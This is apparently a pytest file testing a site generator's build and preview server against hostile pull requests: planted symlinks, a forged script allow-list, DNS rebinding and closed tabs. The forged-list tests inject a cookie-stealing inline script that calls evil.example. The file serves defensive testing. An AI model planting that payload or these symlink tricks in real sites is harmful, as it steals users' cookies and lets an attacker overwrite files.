"""The preview and the caches as a hostile pull request shapes them: links planted where brief build and brief serve
write, a page on another name asking the preview for the full edition, a forged list of allowed scripts, and tabs
closed mid-answer. Each attack is reproduced on a temporary brief."""
import json
import os
import socket
import struct
import subprocess
import sys
import threading

import pytest

from generator import build, cli, disk
from generator.errors import ValidationFailed
from generator.outputs import stix
from generator.site import engine, htmlcheck
from generator.tools import liveserver, serve
from tests.conftest import commit_all
from tests.trees import BASE, flight

OWN = "expected a folder that brief build and brief serve own; remove the link [owned-symlink]"
INSIDE = "expected only the files and folders brief build and brief serve write; remove the link [owned-symlink]"
RED = "data/flights/f2.yml"


def link(path, target):
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


@pytest.fixture
def victim(tmp_path):
    """A folder outside the brief, beside it, that nothing may touch: its files, as they are."""
    folder = tmp_path / "victim"
    folder.mkdir()
    (folder / "keep.txt").write_text("the reviewer's own file\n")
    return folder


def untouched(folder) -> bool:
    return [(p.name, p.read_text()) for p in folder.iterdir()] == [("keep.txt", "the reviewer's own file\n")]


# ---------------------------------------------------------------- links where build and serve write

# (where the link is planted, relative to the brief; where it points; the line both commands print)
PLANTED = [
    (".brief/docs", "../../victim", f".brief/docs:1:1: is a symbolic link to ../../victim, {INSIDE}"),
    (".brief", "../victim", f".brief:1:1: is a symbolic link to ../victim, {OWN}"),
    (".brief/preview", "../../victim", f".brief/preview:1:1: is a symbolic link to ../../victim, {INSIDE}"),
    (".brief/preview/bases", "../../../victim",
     f".brief/preview/bases:1:1: is a symbolic link to ../../../victim, {INSIDE}"),
    (".brief/docs/assets/brief", "../../../../victim",
     f".brief/docs/assets/brief:1:1: is a symbolic link to ../../../../victim, {INSIDE}"),
    ("site", "../victim", f"site:1:1: is a symbolic link to ../victim, {OWN}"),
    ("site/bases", "../../victim", f"site/bases:1:1: is a symbolic link to ../../victim, {INSIDE}"),
    ("site.new-4242", "../victim", f"site.new-4242:1:1: is a symbolic link to ../victim, {OWN}"),
]


@pytest.mark.parametrize("where, target, line", PLANTED, ids=[p[0] for p in PLANTED])
def test_brief_serve_refuses_a_planted_link_before_it_writes_anything(brief, victim, where, target, line):
    project = brief({"data/bases/hmeimim.yml": BASE})
    link(project.root / where, target)
    done = subprocess.run([sys.executable, "-m", "generator", "-C", str(project.root), "serve", "--port", "0"],
                          capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout, done.stderr) == (1, "", f"{line}\n1 error; nothing was written.\n")
    assert untouched(victim)


@pytest.mark.parametrize("where, target, line", PLANTED, ids=[p[0] for p in PLANTED])
def test_brief_build_refuses_the_same_links_with_the_same_line(brief, capsys, victim, where, target, line):
    project = brief({"data/bases/hmeimim.yml": BASE})
    link(project.root / where, target)
    assert cli.main(["-C", str(project.root), "build"]) == 1
    assert capsys.readouterr().err == f"{line}\n1 error; nothing was written.\n"
    assert untouched(victim)


def test_a_link_that_appears_while_the_preview_runs_is_refused_at_the_next_save(brief, victim):
    """A git checkout of another branch under a running preview brings the link in."""
    project = brief({"data/bases/hmeimim.yml": BASE, "data/flights/f1.yml": flight("f1")})
    preview = serve.Preview(project, say=lambda line: None)
    assert preview.refresh().startswith("rebuilt the whole site")
    served = project.work / "preview"
    for name in ("bases", "flights"):
        (served / name).rename(served / f"{name}-was")
        link(served / name, "../../../victim")
    (project.data / "flights" / "f1.yml").write_text(flight("f1", "summary: Second draft\n"))
    shown = preview.refresh().splitlines()
    assert shown == [f".brief/preview/bases:1:1: is a symbolic link to ../../../victim, {INSIDE}",
                     f".brief/preview/flights:1:1: is a symbolic link to ../../../victim, {INSIDE}",
                     "2 errors; the last good pages stay served."]
    assert preview.live.problems == shown[:2]
    assert untouched(victim)


def test_a_pipe_in_the_work_folder_is_refused_instead_of_read(brief):
    """A build reads its caches back: a named pipe there would hang it."""
    project = brief({})
    project.work.mkdir()
    os.mkfifo(project.work / "stix-dates.json")
    with pytest.raises(ValidationFailed) as refused:
        build.prepare(project)
    assert [str(p) for p in refused.value.problems] == [
        ".brief/stix-dates.json:1:1: is a named pipe, expected only the files and folders brief build and brief serve "
        "write; remove it [not-owned]"]


# ---------------------------------------------------------------- caches never written through a link


@pytest.mark.parametrize("cache", ["stix-dates.json", "theme-scripts.json", "last-site.json", "parsed-facts.json"])
def test_a_cache_in_the_work_folder_that_is_a_link_is_refused_and_its_target_kept(brief, capsys, tmp_path, cache):
    project = brief({"data/flights/f1.yml": flight("f1")})
    commit_all(project.root, "1734307200")  # with history, the build keeps the STIX dates it read
    outside = tmp_path / "reviewer-file"
    outside.write_text("the reviewer's own file\n")
    link(project.work / cache, outside)
    assert cli.main(["-C", str(project.root), "build"]) == 1
    assert capsys.readouterr().err == (f".brief/{cache}:1:1: is a symbolic link to {outside}, expected only the files "
                                       "and folders brief build and brief serve write; remove the link "
                                       "[owned-symlink]\n1 error; nothing was written.\n")
    assert outside.read_text() == "the reviewer's own file\n"


def test_a_kept_file_is_never_written_through_a_link_on_its_way(tmp_path):
    """The helper every cache write goes through, for a link planted after the build's first check."""
    root, outside = tmp_path / "brief", tmp_path / "outside"
    outside.mkdir()
    (outside / "stix-dates.json").write_text("kept\n")
    root.mkdir()
    link(root / ".brief", outside)
    with pytest.raises(ValidationFailed) as refused:
        disk.keep(root, root / ".brief" / "stix-dates.json", b"{}")
    assert [str(p) for p in refused.value.problems] == [
        f".brief:1:1: is a symbolic link to {outside}, {OWN}"]
    (root / ".brief").unlink()
    (root / ".brief").mkdir()
    link(root / ".brief" / "stix-dates.json", outside / "stix-dates.json")
    with pytest.raises(ValidationFailed) as refused:
        disk.keep(root, root / ".brief" / "stix-dates.json", b"{}")
    assert [str(p) for p in refused.value.problems] == [
        f".brief/stix-dates.json:1:1: is a symbolic link to {outside / 'stix-dates.json'}, expected a file; "
        "remove the link [owned-symlink]"]
    assert (outside / "stix-dates.json").read_text() == "kept\n"
    (root / ".brief" / "stix-dates.json").unlink()
    disk.keep(root, root / ".brief" / "stix-dates.json", b"{}")
    assert (root / ".brief" / "stix-dates.json").read_bytes() == b"{}"


# ---------------------------------------------------------------- the allowed scripts come from the theme


def test_a_hash_added_to_a_file_in_the_checkout_lets_no_inline_script_through(brief, capsys):
    project = brief({})
    assert cli.main(["-C", str(project.root), "build"]) == 0
    capsys.readouterr()
    evil = "fetch('https://evil.example/?'+document.cookie)"
    depths = frozenset(len(p.relative_to(project.site).parts) - 1 for p in project.site.rglob("*.html"))
    key = f"{engine.settings_digest(project.engine_config)} {sorted(depths)}"  # the key a kept list was trusted by
    honest = htmlcheck.theme_scripts(project.engine_config, depths)
    forged = {"key": key, "scripts": sorted({*honest, htmlcheck.digest(evil)})}
    (project.work / "theme-scripts.json").write_text(json.dumps(forged), encoding="utf-8")
    narrative = project.content / "narrative.md"
    narrative.write_text(narrative.read_text() + f"\n<script>{evil}</script>\n")
    assert cli.main(["-C", str(project.root), "build"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "error: the built site failed the safety check; nothing was published:"
    assert err[1].startswith("  narrative.html:") and err[1].endswith(
        f": inline <script> that the theme does not write: {evil!r}")
    assert evil not in (project.site / "narrative.html").read_text()


def test_the_theme_scripts_found_are_kept_signed_and_a_record_signed_otherwise_is_not_trusted(brief, monkeypatch):
    """The next build takes the reference build's findings from the work folder only under the user's signature: a
    hash added to the record and signed with another key (or left unsigned) brings the reference build back."""
    from generator.facts import parsecache

    project = brief({})
    monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})  # a build in a process of its own finds and keeps them
    assert cli.main(["-C", str(project.root), "build"]) == 0
    depths = frozenset(len(p.relative_to(project.site).parts) - 1 for p in project.site.rglob("*.html"))
    honest = htmlcheck.theme_scripts(project.engine_config, depths)
    made = []
    reference = engine.reference_site
    monkeypatch.setattr(engine, "reference_site", lambda *args: made.append(args) or reference(*args))
    monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})  # as in the next build's process
    assert htmlcheck.theme_scripts(project.engine_config, depths) == honest and made == []
    record = project.work / "theme-scripts.json"
    body = parsecache.opened(parsecache.signing_key(project.root), htmlcheck.SCRIPTS_FORMAT, record.read_bytes())
    evil = htmlcheck.digest("fetch('https://evil.example/?'+document.cookie)")
    forged = json.dumps({**json.loads(body), "scripts": sorted({*honest, evil})}).encode()
    for planted in (parsecache.signed(b"k" * 32, htmlcheck.SCRIPTS_FORMAT, forged), forged):
        record.write_bytes(planted)
        monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})
        assert htmlcheck.theme_scripts(project.engine_config, depths) == honest
    assert len(made) == 2 and evil not in honest


# ---------------------------------------------------------------- the preview is marked as brief build marks it


def test_the_preview_is_marked_as_brief_build_marks_the_full_edition(brief):
    project = brief({"data/flights/f1.yml": flight("f1"), RED: flight("f2", "tlp: TLP:RED\n")})
    assert serve.Preview(project, say=lambda line: None).refresh().startswith("rebuilt the whole site")
    build.build(project)
    for site in (project.work / "preview", project.site):
        exported = json.loads((site / "data" / "brief.json").read_text())
        assert exported["edition"] == {"tlp": "TLP:RED", "release": False}
        bundle = json.loads((site / "data" / "brief.stix.json").read_text())
        report = next(o for o in bundle["objects"] if o["type"] == "report")
        assert report["labels"] == ["tlp:red"] and report["object_marking_refs"] == [stix.TLP_MARKINGS["TLP:RED"]]
        assert '<span class="brief-marking" data-tlp="TLP:RED">TLP:RED</span>' in (site / "index.html").read_text()
        data_page = (site / "data.html").read_text()
        assert "TLP:RED" in data_page and "TLP:CLEAR" not in data_page


# ---------------------------------------------------------------- the preview answers its own address only


def raw_get(port: int, path: str, host: str | None) -> tuple[int, bytes]:
    """The status and body of one HTTP/1.1 request sent as bytes, with exactly this Host header (or none)."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
        head = f"GET {path} HTTP/1.1\r\n" + (f"Host: {host}\r\n" if host is not None else "") + "Connection: close\r\n\r\n"
        conn.sendall(head.encode())
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    status, _, rest = answer.partition(b"\r\n")
    return int(status.split()[1]), rest.partition(b"\r\n\r\n")[2]


class Listening:
    """A preview server on a free loopback port serving a tiny site, and what it said to the terminal."""

    def __init__(self, root, terminal: bool = True):
        (root / "data").mkdir()
        (root / "data" / "brief.json").write_text('{"edition": {"tlp": "TLP:RED"}}')
        self.said: list[str] = []
        self.live = liveserver.Live()
        told = (self.said.append,) if terminal else ()  # without: as a server that prints to stderr
        self.server = liveserver.bind("127.0.0.1", 0, root, self.live, *told)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listening(tmp_path):
    running = Listening(tmp_path)
    yield running
    running.server.shutdown()
    running.server.server_close()


def test_a_request_for_another_name_is_refused_with_421_and_one_line(listening):
    port, said = listening.port, listening.said
    for _ in range(3):  # a page asking again and again: one line in the terminal
        assert raw_get(port, "/data/brief.json", "evil.example") == (
            421, b"This preview answers only requests for its own address.\n")
    assert raw_get(port, "/data/brief.json", f"evil.example:{port}")[0] == 421
    assert raw_get(port, "/data/brief.json", None)[0] == 421
    assert said == [f"refused a request for Host 'evil.example' with 421: the preview answers only requests for "
                    f"http://127.0.0.1:{port}/ (or another name of its own address)",
                    f"refused a request for Host 'evil.example:{port}' with 421: the preview answers only requests "
                    f"for http://127.0.0.1:{port}/ (or another name of its own address)",
                    f"refused a request for Host '' with 421: the preview answers only requests for "
                    f"http://127.0.0.1:{port}/ (or another name of its own address)"]


def test_the_loopback_names_of_its_own_address_are_answered(listening):
    port, said = listening.port, listening.said
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}", f"[::1]:{port}"):
        assert raw_get(port, "/data/brief.json", host) == (200, b'{"edition": {"tlp": "TLP:RED"}}'), host
    assert said == []


@pytest.mark.parametrize("host, given, address, answered", [
    ("127.0.0.1:8000", "127.0.0.1", "127.0.0.1", True),
    ("localhost:8000", "127.0.0.1", "127.0.0.1", True),
    ("[::1]:8000", "::1", "::1", True),
    ("localhost:8000", "localhost", "127.0.0.1", True),
    ("127.0.0.1:8001", "127.0.0.1", "127.0.0.1", False),  # another port: another server
    ("127.0.0.1", "127.0.0.1", "127.0.0.1", False),  # no port means 80
    ("evil.example:8000", "127.0.0.1", "127.0.0.1", False),  # a name that resolves here: DNS rebinding
    ("127.0.0.1.evil.example:8000", "127.0.0.1", "127.0.0.1", False),
    ("127.0.0.1:8000@evil.example", "127.0.0.1", "127.0.0.1", False),
    ("192.168.1.5:8000", "192.168.1.5", "192.168.1.5", True),  # --host on the local network
    ("localhost:8000", "192.168.1.5", "192.168.1.5", False),  # not a loopback address: its own address only
    ("brief.lan:8000", "brief.lan", "192.168.1.5", True),  # --host given as a name: that name
    ("192.168.1.5:8000", "0.0.0.0", "0.0.0.0", True),  # every address: any address, never a name
    ("evil.example:8000", "0.0.0.0", "0.0.0.0", False),
    ("[fe80::1]:8000", "::", "::", True),
])
def test_which_host_a_request_may_name(host, given, address, answered):
    assert liveserver.for_address(host, given, address, 8000) is answered


def test_brief_serve_refuses_another_host_and_serves_its_own_the_full_edition(brief):
    """End to end, as DNS rebinding would try it: the same request, by name and by address."""
    project = brief({RED: flight("f2", "tlp: TLP:RED\n")})
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "generator", "-C", str(project.root), "serve", "--port", str(port)],
                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
                            env={**os.environ, "PYTHONUNBUFFERED": "1"})
    try:
        lines = []
        while not lines or not lines[-1].startswith("serving the preview on "):
            line = proc.stderr.readline()
            assert line, f"brief serve exited: {lines}"
            lines.append(line.rstrip("\n"))
        assert lines[-1] == f"serving the preview on http://127.0.0.1:{port}/ (Ctrl-C to stop)"
        assert raw_get(port, "/data/brief.json", "evil.example")[0] == 421
        status, body = raw_get(port, "/data/brief.json", f"127.0.0.1:{port}")
        assert status == 200 and json.loads(body)["edition"]["tlp"] == "TLP:RED"
        assert proc.stderr.readline().rstrip("\n") == (
            f"refused a request for Host 'evil.example' with 421: the preview answers only requests for "
            f"http://127.0.0.1:{port}/ (or another name of its own address)")
    finally:
        proc.terminate()
        proc.wait(30)


# ---------------------------------------------------------------- a closed tab is not an error


def test_a_tab_closed_before_its_answer_prints_nothing(tmp_path, capsys, monkeypatch):
    """An open page waits for the next build; its tab is closed; the build then answers it into a reset connection."""
    listening = Listening(tmp_path, terminal=False)
    server, live = listening.server, listening.live
    waiting, answered = threading.Event(), threading.Event()
    wait, shutdown = live.wait, server.shutdown_request
    monkeypatch.setattr(live, "wait", lambda *args: waiting.set() or wait(*args))
    monkeypatch.setattr(server, "shutdown_request", lambda request: shutdown(request) or answered.set())
    tab = socket.create_connection(("127.0.0.1", listening.port), timeout=30)
    tab.sendall(f"GET {liveserver.CHANGES}?since=0&page=/ HTTP/1.1\r\nHost: 127.0.0.1:{listening.port}\r\n\r\n".encode())
    assert waiting.wait(30)
    tab.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # closed as a browser resets it
    tab.close()
    live.publish([], liveserver.ALL)  # a rebuild: the waiting page is told to reload, into the closed connection
    try:
        assert answered.wait(30)
    finally:
        server.shutdown()
        server.server_close()
    assert capsys.readouterr().err == ""
